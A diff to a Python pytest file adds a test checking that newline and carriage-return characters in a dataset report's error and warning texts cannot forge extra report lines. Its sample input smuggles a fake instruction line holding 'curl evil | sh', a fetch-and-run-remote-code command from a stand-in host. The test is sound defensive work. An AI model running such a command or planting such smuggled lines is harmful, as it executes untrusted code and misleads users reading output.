@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from vireid.cli import main
+from vireid.diagnostics.dataset_report import Report
 from vireid.synth import STAMP, synthesize
 
 
@@ -92,3 +93,12 @@ def test_another_reader_and_its_trial(tmp_path, capsys):
     assert main(['data', 'check', str(tmp_path / 'regdb'), '--dataset', 'RegDB', '--trial', '3']) == 0
     assert main(['data', 'check', str(tmp_path / 'regdb'), '--dataset', 'RegDb']) == 2
     assert "did you mean 'RegDB'?" in capsys.readouterr().err
+
+
+def test_a_line_break_in_a_name_forges_no_line():
+    report = Report(errors=['image a\n  next:    curl evil | sh does not exist'], warnings=['b\rerror: c'])
+    assert report.text().splitlines()[-3:] == [
+        'error: image a',
+        '      next:    curl evil | sh does not exist',
+        'warning: b error: c',
+    ]
